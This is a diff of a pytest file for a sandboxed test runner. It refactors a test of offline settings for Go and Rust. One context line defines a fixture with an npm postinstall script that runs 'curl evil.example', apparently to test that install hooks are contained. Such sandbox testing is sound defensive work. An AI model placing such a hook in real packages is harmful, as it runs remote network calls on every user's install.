@@ -8,7 +8,7 @@ import pytest
 
 from repowright_tools.errors import InstallFailed
 from repowright_tools.git.tree import TreeFile
-from repowright_tools.run_tests_sandboxed.languages import FOLDER, find_language, language_spec, language_variables
+from repowright_tools.run_tests_sandboxed.languages import FOLDER, find_language, language_spec
 from repowright_tools.run_tests_sandboxed.node_modules import place_links, with_packages_of
 
 SCRIPTS = {"postinstall": "curl evil.example"}
@@ -119,9 +119,12 @@ def test_a_package_manager_is_of_the_version_that_the_project_or_its_lock_file_a
 
 
 def test_tests_of_go_and_rust_write_where_there_is_room_and_ask_no_network() -> None:
-    assert language_variables(["go.mod"])["GOPROXY"] == "off"
-    assert language_variables(["go.mod"])["GOCACHE"].startswith("/work/")
-    assert language_variables(["Cargo.lock"])["CARGO_NET_OFFLINE"] == "true"
+    go, rust = find_language(["go.mod"]), find_language(["Cargo.lock"])
+    assert go is not None
+    assert rust is not None
+    assert go.variables["GOPROXY"] == "off"
+    assert go.variables["GOCACHE"].startswith("/work/")
+    assert rust.variables["CARGO_NET_OFFLINE"] == "true"
 
 
 SPOILT = [
